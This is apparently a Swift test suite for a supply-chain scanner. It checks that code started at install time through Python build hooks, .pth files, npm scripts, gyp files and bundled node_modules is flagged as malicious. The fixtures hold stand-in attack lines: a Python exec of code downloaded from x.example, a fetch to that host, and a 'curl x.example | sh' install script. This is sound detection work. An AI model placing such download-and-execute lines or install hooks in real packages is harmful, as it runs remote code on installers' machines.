import Screening
import TestSupport
import Testing

@testable import Analyzers

@Suite("What runs at installation is judged as that, however it is started")
struct InstallReachTests {
    private static let python = "import urllib.request\nexec(urllib.request.urlopen('https://x.example/a').read())\n"
    private static let script = "require('child_process').execSync('node -v')\nfetch('https://x.example/a')\n"

    /// The reaches of everything found in files of that name.
    private func reaches(_ artifact: Artifact, in file: String) -> Set<String> {
        let findings = artifact.report().findings.map(\.finding).filter { $0.path?.hasSuffix(file) == true }
        return Set(findings.compactMap { $0.evidence?.split(separator: "@").dropFirst().first.map(String.init) })
    }

    @Test(
        "hooks of build tools of Python",
        arguments: [
            ("pyproject.toml", "[tool.hatch.build.hooks.custom]\npath = 'tools/hook.py'\n"),
            ("pyproject.toml", "[tool.hatch.version]\nsource = 'code'\npath = 'tools/hook.py'\n"),
            ("pyproject.toml", "[tool.poetry.build]\nscript = 'tools/hook.py'\n"),
            ("pyproject.toml", "[tool.pdm.build]\ncustom-hook = './tools/hook.py'\n"),
            ("pyproject.toml", "[tool.setuptools.cmdclass]\nbuild_py = 'tools.hook.Build'\n"),
            ("pyproject.toml", "[build-system]\nrequires = []\nbuild-backend = 'hook:api'\nbackend-path = ['tools']\n"),
            ("setup.cfg", "[options]\ncmdclass =\n    install = tools.hook.Install\n"),
            ("setup.cfg", "[global]\ncommand_packages = tools.hook\n"),
        ])
    func pythonHooks(_ manifest: String, _ text: String) throws {
        let hooked = try sdist { tar in
            tar.addFile("acme_box-1.2.3/\(manifest)", text)
            tar.addFile("acme_box-1.2.3/tools/hook.py", Self.python)
        }
        #expect(reaches(hooked, in: "hook.py").contains("install"), "\(hooked.report().findings)")
        #expect(hooked.report().verdict == .malicious)
        let alone = try sdist { $0.addFile("acme_box-1.2.3/tools/hook.py", Self.python) }
        #expect(!reaches(alone, in: "hook.py").contains("install"))
    }

    @Test("start-up files of wheels")
    func startUp() throws {
        var wheel = WheelBuilder()
        wheel.add("acme_box/boot.py", Self.python)
        wheel.add("acme.pth", "import sys; import acme_box.boot\n")
        #expect(reaches(try wheel.artifact(), in: "boot.py").contains("install"))
        var other = WheelBuilder()
        other.add("sitecustomize.py", "import acme_box.boot\n")
        other.add("acme_box/boot.py", Self.python)
        #expect(reaches(try other.artifact(), in: "boot.py").contains("install"))
    }

    @Test(
        "scripts of npm",
        arguments: [
            "node lib/run.js", "node ./lib/run", "cd lib && node run", #"node -e \"require('./lib/run')\""#,
            "npm run more",
            "node -r ./lib/run.js other.js", "sh -c 'node lib/run.js'",
            "NODE_ENV=x cross-env A=b node lib/run.js; true",
        ])
    func npmScripts(_ command: String) throws {
        let manifest =
            #"{"name":"acme-box","version":"1.2.3","scripts":{"postinstall":"\#(command)","more":"node lib/run"}}"#
        let artifact = try npmTarball(manifest: manifest) { $0.addFile("package/lib/run.js", Self.script) }
        #expect(reaches(artifact, in: "run.js").contains("install"), "\(artifact.report().findings)")
    }

    @Test(
        "build files of gyp, in which a package has no install script",
        arguments: [
            "{'sources': ['<!(node lib/run.js > /dev/null && echo stub.c)']}",
            "{'a': '<' '!@(node -p \"require(\\'./lib/run\\')\")'}",
            "{'variables': {'c': 'lib/run.js'}, 'a': '<!(node <(c))'}",
            "{'targets': [{'actions': [{'action_name': 'a', 'action': ['node', 'lib/run.js']}]}]}",
        ])
    func gyp(_ text: String) throws {
        let artifact = try npmTarball { tar in
            tar.addFile("package/binding.gyp", text)
            tar.addFile("package/src/a.cc", "int a;\n")
            tar.addFile("package/lib/run.js", Self.script)
        }
        #expect(reaches(artifact, in: "run.js").contains("install"), "\(artifact.report().findings)")
    }

    @Test("packages that are shipped in node_modules run their scripts too")
    func bundled() throws {
        let artifact = try npmTarball { tar in
            tar.addFile(
                "package/node_modules/lid/package.json",
                #"{"name":"lid","scripts":{"install":"node run || curl x.example | sh"}}"#)
            tar.addFile("package/node_modules/lid/run.js", Self.script)
        }
        #expect(reaches(artifact, in: "run.js").contains("install"))
        #expect(artifact.observations().contains("script-pipes-download-to-interpreter"))
    }
}
